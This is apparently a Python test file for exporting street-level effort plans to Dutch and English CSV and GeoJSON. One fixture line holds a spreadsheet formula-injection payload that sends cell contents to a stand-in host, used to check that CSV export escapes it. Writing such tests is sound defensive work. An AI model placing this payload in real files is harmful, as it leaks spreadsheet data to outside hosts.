"""Tests for :mod:`abcd.effort.files`: the per-street CSV in Dutch and English, the GeoJSON and the run in both."""

from __future__ import annotations

import csv
import json
import math
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import LineString

from abcd.effort import (
    EffortRun,
    plan_bytes,
    plan_csv_bytes,
    plan_segments,
    plan_streets,
    read_plan_csv,
    read_plan_run,
    write_plan,
)
from abcd.effort.files import CSV_COLUMNS
from abcd.errors import ImportFileError
from abcd.i18n import t

EVIL = '=HYPERLINK("https://evil.example?"&A2, "klik")'
RUN = EffortRun(
    Decimal("1234.56"), "uur", "maand", 0.4, "network", 262.5, date(2026, 11, 22), "Bospolder-Tussendijken", "zwerfvuil"
)


@pytest.fixture
def segments() -> gpd.GeoDataFrame:
    """Five segments of three named streets (one a formula) and an unnamed path, with initiative ids."""
    x, y = 92000.0, 437000.0
    coverage = gpd.GeoDataFrame(
        {
            "name": ["Gijsingstraat", "Gijsingstraat", EVIL, None, "Schiedamseweg"],
            "highway": ["residential", "residential", "residential", "footway", "secondary"],
            "osm_id": ["1", "1", "2", "3", "4"],
            "initiatives": [2, 1, 0, 1, 0],
            "initiative_ids": [("a", "b"), ("b",), (), ("c",), ()],
            "needs_support": [False, False, True, False, True],
        },
        geometry=[
            LineString([(x, y), (x + 100.4, y)]),
            LineString([(x + 100.4, y), (x + 200, y)]),
            LineString([(x + 200, y), (x + 200, y + 333.3)]),
            LineString([(x + 500, y), (x + 500, y + 77.7)]),
            LineString([(x + 800, y), (x + 800, y + 500.5)]),
        ],
        crs=28992,
    )
    coverage.attrs.update({"gaps_distance_m": 262.5, "gaps_mode": "network"})
    return plan_segments(coverage, total=RUN.total, floor=RUN.floor)


def rows(data: bytes, separator: str) -> list[list[str]]:
    return list(csv.reader(data.decode("utf-8-sig").splitlines(), delimiter=separator))


def test_dutch_csv_for_a_work_planner(segments: gpd.GeoDataFrame) -> None:
    streets = plan_streets(segments, unnamed=t("gaps.unnamed_road", "nl"))
    data = plan_csv_bytes(streets, RUN)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    header, *body = rows(data, ";")
    assert header == [
        "straat", "lengte_m", "initiatieven", "gemiddeld_deel", "inzet", "verschil_met_gemiddelde", "index",
        "wijk", "thema", "eenheid", "periode", "totaal", "ondergrens", "modus", "afstand_m", "datum",
    ]  # fmt: skip
    assert len(body) == len(streets) == 4
    for row in body:
        cells = dict(zip(header, row, strict=True))
        for column in ("gemiddeld_deel", "inzet", "verschil_met_gemiddelde", "index", "totaal"):
            assert re.fullmatch(r"-?\d+,\d\d", cells[column]), (column, cells[column])
        assert re.fullmatch(r"\d+", cells["lengte_m"])
        assert row[7:] == [
            "Bospolder-Tussendijken", "zwerfvuil", t("effort.unit.uur", "nl"), t("effort.period.maand", "nl"),
            "1234,56", "0,4", t("gaps.mode.network", "nl"), "262,5", "2026-11-22",
        ]  # fmt: skip
    assert sum(Decimal(row[4].replace(",", ".")) for row in body) == RUN.total
    table = {row[0]: row for row in body}
    assert "'" + EVIL in table  # a spreadsheet shows the formula as text
    assert table["Gijsingstraat"][1:3] == ["200", "2"]  # the ids a, b: two distinct initiatives


def test_english_csv_uses_commas_and_points(segments: gpd.GeoDataFrame) -> None:
    data = plan_bytes(segments, ".csv", run=RUN, lang="en")
    header, *body = rows(data, ",")
    assert header == list(CSV_COLUMNS)
    assert all(re.fullmatch(r"-?\d+\.\d\d", row[4]) for row in body)
    assert body[0][9:12] == [t("effort.unit.uur", "en"), t("effort.period.maand", "en"), "1234.56"]
    assert any(row[0].startswith(t("gaps.unnamed_road", "en")) for row in body)


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_the_csv_reads_back_to_the_same_numbers_and_run(segments: gpd.GeoDataFrame, lang: str, tmp_path: Path) -> None:
    streets = plan_streets(segments, unnamed=t("gaps.unnamed_road", lang))
    path = tmp_path / "plan.csv"
    write_plan(segments, path, run=RUN, lang=lang)
    table, run = read_plan_csv(path)
    assert run == RUN
    assert table["street"].tolist() == streets["street"].tolist()  # the formula name restored
    assert EVIL in table["street"].tolist()
    for column in ("average", "effort", "change_vs_average"):
        assert table[column].tolist() == streets[column].round(2).tolist(), column
    assert table["initiatives"].tolist() == streets["initiatives"].tolist()
    assert table["index"].tolist() == [float(f"{v:.2f}") for v in streets["index"]]
    assert table["length_m"].tolist() == [math.floor(v + 0.5) for v in streets["length_m"]]  # half up: 500.5 is 501
    assert sum(Decimal(repr(v)) for v in table["effort"]) == RUN.total  # exact, when summed as decimals
    assert sum(Decimal(repr(v)) for v in table["average"]) == RUN.total
    assert read_plan_csv(path.read_bytes())[1] == RUN  # bytes, as an upload gives them


def test_a_csv_of_no_streets_has_no_run(segments: gpd.GeoDataFrame) -> None:
    table, run = read_plan_csv(plan_csv_bytes(plan_streets(segments).iloc[0:0], RUN))
    assert run is None and table.empty and list(table.columns)[:2] == ["street", "length_m"]


def test_another_csv_is_refused(segments: gpd.GeoDataFrame) -> None:
    with pytest.raises(ImportFileError) as caught:
        read_plan_csv(b"straat;lengte_m\r\nA;1\r\n")
    assert caught.value.key == "error.effort_csv_columns" and "lengte_m" in caught.value.message("en")


def test_a_csv_with_an_unknown_unit_is_refused(segments: gpd.GeoDataFrame) -> None:
    text = plan_csv_bytes(plan_streets(segments), RUN).decode("utf-8-sig")
    broken = text.replace(f";{t('effort.unit.uur', 'nl')};", ";dagen;").encode("utf-8-sig")
    with pytest.raises(ImportFileError) as caught:
        read_plan_csv(broken)
    assert caught.value.key == "error.row" and "dagen" in caught.value.message("nl")


def test_geojson_has_every_segment_and_the_run(segments: gpd.GeoDataFrame, tmp_path: Path) -> None:
    path = tmp_path / "plan.geojson"
    write_plan(segments, path, run=RUN)
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["abcd_effort"] == RUN.as_member()
    features = document["features"]
    assert len(features) == len(segments)
    props = [f["properties"] for f in features]
    assert props[2]["name"] == EVIL  # a GIS file keeps the text as it is
    assert [p["initiative_ids"] for p in props] == ["a,b", "b", "", "c", ""]
    assert [p["effort"] for p in props] == segments["effort"].tolist()
    assert [p["initiatives"] for p in props] == [2, 1, 0, 1, 0]
    for column in ("length_m", "weight", "index", "average", "highway", "needs_support"):
        assert column in props[0], column
    assert "effort_hundredths" not in props[0]
    assert sum(Decimal(repr(p["effort"])) for p in props) == RUN.total
    lon, lat = features[0]["geometry"]["coordinates"][0]
    assert 4 < lon < 5 and 51 < lat < 52  # WGS84
    assert read_plan_run(path) == RUN
    back = gpd.read_file(path)
    assert back["average"].tolist() == segments["average"].tolist()


def test_geojson_bytes_for_a_download(segments: gpd.GeoDataFrame) -> None:
    document = json.loads(plan_bytes(segments, ".geojson", run=RUN))
    assert document["abcd_effort"]["total"] == "1234.56"


def test_a_geojson_without_a_run_reads_none(tmp_path: Path) -> None:
    path = tmp_path / "streets.geojson"
    gpd.GeoDataFrame({"name": ["A"]}, geometry=[LineString([(4.4, 51.9), (4.5, 51.9)])], crs=4326).to_file(path)
    assert read_plan_run(path) is None


@pytest.mark.parametrize("name", ["plan.gpkg", "plan.txt", "plan"])
def test_other_formats_are_refused(segments: gpd.GeoDataFrame, tmp_path: Path, name: str) -> None:
    with pytest.raises(ImportFileError) as caught:
        write_plan(segments, tmp_path / name, run=RUN)
    assert caught.value.key == "error.export_format"
    assert list(tmp_path.iterdir()) == []


def test_a_failed_write_leaves_the_old_file(segments: gpd.GeoDataFrame, tmp_path: Path) -> None:
    path = tmp_path / "plan.geojson"
    write_plan(segments, path, run=RUN)
    before = path.read_bytes()
    with pytest.raises(ValueError, match="plan_segments"):
        write_plan(pd.DataFrame(segments.drop(columns="effort")), path, run=RUN)  # type: ignore[arg-type]
    assert path.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["plan.geojson"]
